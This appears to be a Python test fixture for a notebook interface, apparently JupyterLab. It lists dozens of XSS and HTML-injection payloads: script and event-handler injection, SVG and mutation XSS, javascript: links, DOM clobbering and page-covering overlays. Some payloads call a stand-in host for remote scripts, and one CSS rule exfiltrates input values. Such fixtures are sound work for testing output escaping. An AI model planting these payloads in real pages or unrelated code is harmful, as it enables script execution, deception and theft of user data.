"""Strings that would run a script, cover the page or tell another host something, if a page took them as markup.

Each that runs calls ``pwned()``, each that fetches asks ``FOREIGN``.
"""

from __future__ import annotations

from html import escape

FOREIGN = "evil.invalid"

_U = f"https://{FOREIGN}"

ATTACKS: dict[str, str] = {
    "script": "<script>pwned()</script>",
    "script, foreign": f"<script src={_U}/a.js></script>",
    "script, split by a null": "<scr\x00ipt>pwned()</scr\x00ipt><img src=x one\x00rror=pwned()>",
    "closing everything": "</td></table></pre></div></details></textarea></style></script><script>pwned()</script>",
    "image, onerror": "<img src=x onerror=pwned()>",
    "image, broken quotes": '"\'><img src=x onerror="pwned()">',
    "image, foreign": f"<img src={_U}/pixel.png>",
    "image, srcset": f"<img srcset='{_U}/a.png 1x, {_U}/b.png 2x'>",
    "image, slash for a space": "<img/src=x/onerror=pwned()//",
    "svg, onload": "<svg onload=pwned()></svg>",
    "svg, script": "<svg><script>pwned()</script></svg>",
    "svg, animated link": "<svg><a><animate attributeName=href values=javascript:pwned() />"
    "<text y=20>x</text></a></svg>",
    "svg, use": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x\" /></svg>",
    "svg, foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.pwned()</script>'></iframe>"
    "</foreignObject></svg>",
    "video, onerror": "<video><source onerror=pwned()></video>",
    "audio, onerror": "<audio src=x onerror=pwned()>",
    "details, ontoggle": "<details open ontoggle=pwned()>x</details>",
    "focus on its own": "<input autofocus onfocus=pwned()>",
    "marquee": "<marquee onstart=pwned()>x</marquee>",
    "animation": "<style>@keyframes husky{}</style><b style='animation:husky 1ms' onanimationstart=pwned()>x</b>",
    "iframe, srcdoc": "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "iframe, javascript": "<iframe src=javascript:parent.pwned()></iframe>",
    "iframe, foreign": f"<iframe src={_U}/frame></iframe>",
    "object": "<object data='data:text/html,<script>parent.pwned()</script>'></object>",
    "embed": "<embed src='data:text/html,<script>parent.pwned()</script>'>",
    "link, style sheet": f"<link rel=stylesheet href={_U}/a.css>",
    "link, import": f"<link rel=import href={_U}/a.html><link rel=preload as=image href={_U}/b.png>",
    "meta, refresh": f"<meta http-equiv=refresh content='0; url={_U}/moved'>",
    "base": f"<base href={_U}/><img src=relative.png>",
    "form": f"<form action={_U}/take><button formaction=javascript:pwned()>Approve</button></form>",
    "template": "<template><img src=x onerror=pwned()></template><div><template shadowrootmode=open>"
    "<img src=x onerror=pwned()></template></div>",
    "link, javascript": "<a href=javascript:pwned()>x</a>",
    "link, javascript in entities": "<a href='&#106;&#97;vascript&colon;pwned()'>x</a>",
    "link, javascript with a tab": "<a href='java\tscript:pwned()'>x</a>",
    "link, data": "<a href='data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+'>x</a>",
    "style, url": f"<b style='background:url({_U}/b.png)'>x</b>",
    "style, expression": "<b style='width:expression(pwned());behavior:url(x.htc)'>x</b>",
    "style sheet, exfiltration": f"<style>input[value^=a]{{background:url({_U}/a)}} "
    f"body{{background:url({_U}/b)}}</style>",
    "style sheet, import": f"<style>@import '{_U}/c.css';</style>",
    "table's style sheet, nested": "<style>#T_a{color:red;body:has(&){display:none}}"
    "#T_a{position:fixed;inset:0}</style>"
    "<table id=T_a><tr><td>x</td></tr></table>",
    "covering": "<div style='position:fixed;inset:0;z-index:99999;background:red'>x</div>",
    "covering by the page's classes": "<div class='jp-Dialog lm-Widget'>"
    "<button class=jp-mod-accept>Approve</button></div>",
    "clobbering": "<form name=jupyterapp id=jupyterapp><input name=shell id=body></form><a id=husky name=husky>x</a>",
    "commands of JupyterLab": "<b data-commandlinker-command=notebook:delete-cell "
    "data-husky-action=approve>Approve</b>",
    "mutation, math": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=pwned()&gt;'>",
    "mutation, noscript": "<noscript><p title='</noscript><img src=x onerror=pwned()>'></noscript>",
    "mutation, nested form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned()>",
    "math, link": "<math href=javascript:pwned()>"
    "<maction actiontype=statusline xlink:href=javascript:pwned()>x</maction></math>",
    "comment": "<!--><img src=x onerror=pwned()>--><!--[if gte IE 4]><script>pwned()</script><![endif]-->",
    "unterminated": "<img src=x onerror=pwned() alt='",
    "unterminated comment": "<!-- <img src=x onerror=pwned()>",
    "entities": "&lt;img src=x onerror=pwned()&gt;&amp;lt;script&amp;gt;pwned()",
    "Markdown, link": "[x](javascript:pwned()) ![x](x' onerror='pwned()) <javascript:pwned()>",
    "Markdown, image": f"![x]({_U}/markdown.png)",
    "formula": f"$\\href{{javascript:pwned()}}{{x}}$ $$\\style{{background:url({_U}/m.png)}}{{x}}$$ "
    "\\(\\class{jp-Dialog}{x}\\)",
    "template of a script": "${pwned()} {{constructor.constructor('pwned()')()}} `+pwned()+`",
    "terminal": "\x1b]8;;javascript:pwned()\x07x\x1b]8;;\x07"
    f"\x1b[31m<img src=x onerror=pwned()>\x1b[0m\x1b[2J\x9b31m{_U}",
    "turned text": "\u202e<img src=x onerror=pwned()>\u2066",
}

SVG_FIGURES = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned()'><script>parent.pwned()</script></svg>",
    f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{_U}/svg.png' width='9' height='9'/></svg>",
)

ALL = " ".join(ATTACKS.values())
"""All in one line, as a model's step or an answer has them."""

_QUIET = ("unterminated", "meta", "link", "base", "mutation")
_LOUD = "".join(f"<div>{text}</div>" for name, text in ATTACKS.items() if not name.startswith(_QUIET))
_COUNT = "<script>window.count = 0; window.pwned = () => { count += 1 }</script>"
CONTROL = f"{_COUNT}{ATTACKS['closing everything']}{_LOUD}"
"""A page that takes them as markup, to see that they are no blanks."""


def as_table(texts: list[str]) -> str:
    """A table of a library that does not escape."""
    rows = "".join(f"<tr><th>{text}</th><td>{text}</td><td title='{escape(text)}'>x</td></tr>" for text in texts)
    return f"<table class='dataframe'><tbody>{rows}</tbody></table>"
